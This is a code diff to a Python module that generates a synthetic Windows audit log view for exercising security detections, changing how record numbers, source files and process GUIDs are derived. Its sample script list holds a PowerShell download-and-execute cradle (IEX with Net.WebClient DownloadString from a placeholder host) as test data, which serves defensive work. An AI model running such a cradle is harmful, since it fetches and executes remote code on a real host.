@@ -1,7 +1,7 @@
 """An audit log with the events and fields that detections look at, as a view of the ``events`` table.
 
 Times run 600 times as fast as those of ``events``, so that windows of minutes hold several events of
-a host.  The same select list is written for Spark and for DuckDB; only list and hexadecimal functions
+a host.  Record numbers count within one of three files, and repeat between them.  The same select list is written for Spark and for DuckDB; only list and hexadecimal functions
 are named differently.
 """
 
@@ -40,9 +40,9 @@ def _columns(spark: bool) -> list[tuple[str, str]]:
     scripts = ["Get-ChildItem C:/", "IEX (New-Object Net.WebClient).DownloadString(\"http://files.example-host.com/p.ps1\")", "Write-Host done; Invoke-WebRequest https://10.1.2.3:8081/x.", "Start-Process calc"]
     return [
         ("event_code", code),
-        ("record_id", "event_id"),
+        ("record_id", "event_id div 3" if spark else "event_id // 3"),
         ("sec", f"CAST(floor({start} / 600.0) AS BIGINT)"),
-        ("source_file", "concat('C:/logs/log_', user_id % 3, '.json')"),
+        ("source_file", "concat('C:/logs/log_', event_id % 3, '.json')"),
         ("channel", "CASE WHEN event_code = 4104 THEN 'Microsoft-Windows-PowerShell/Operational' WHEN event_code IN (1, 3, 7, 8, 10, 11, 13, 17) THEN 'Microsoft-Windows-Sysmon/Operational' WHEN event_code = 7045 THEN 'System' WHEN event_code = 1102 AND k % 20 = 4 THEN 'Layout/Operational' ELSE 'Security' END"),
         ("provider", "CASE WHEN event_code IN (1, 3, 7, 8, 10, 11, 13, 17) THEN 'Microsoft-Windows-Sysmon' ELSE 'Microsoft-Windows-Security-Auditing' END"),
         ("computer", "concat('HOST', CASE WHEN k % 3 < 2 THEN user_id % 10 ELSE k % 10 END)"),
@@ -64,8 +64,8 @@ def _columns(spark: bool) -> list[tuple[str, str]]:
         ("image", only([1, 3, 7, 8, 10, 11, 13, 4688, 4689], pick(images, "user_id + k"))),
         ("parent_image", only([1, 4688], pick(parents, "user_id + event_id"))),
         ("command_line", only([1, 4688], pick(commands, "k + event_id"))),
-        ("process_guid", only([1, 8, 10], "CASE WHEN k % 17 = 0 THEN '' ELSE concat('{G', event_id, '}') END")),
-        ("parent_guid", only([1], "concat('{g', event_id - 1 - user_id % 60, '}')")),
+        ("process_guid", only([1, 8, 10, 4688], "CASE WHEN k % 17 = 0 THEN '' WHEN k % 17 = 1 THEN '{00000000-0000-0000-0000-000000000000}' ELSE concat('{G', event_id - event_id % 2, '}') END")),
+        ("parent_guid", only([1, 4688], "concat('{g', event_id - 1 - user_id % 60, '}')")),
         ("pid", only([1, 8, 10, 4688, 4689], "CASE WHEN k % 2 = 0 THEN " + hexadecimal("k % 20 + 100") + " ELSE CAST(k % 20 + 100 AS VARCHAR(9)) END")),
         ("ppid", only([1, 4688], "CAST((k * 7 + user_id) % 20 + 100 AS VARCHAR(9))")),
         ("target_image", only([8, 10], pick(images, "k * 3"))),
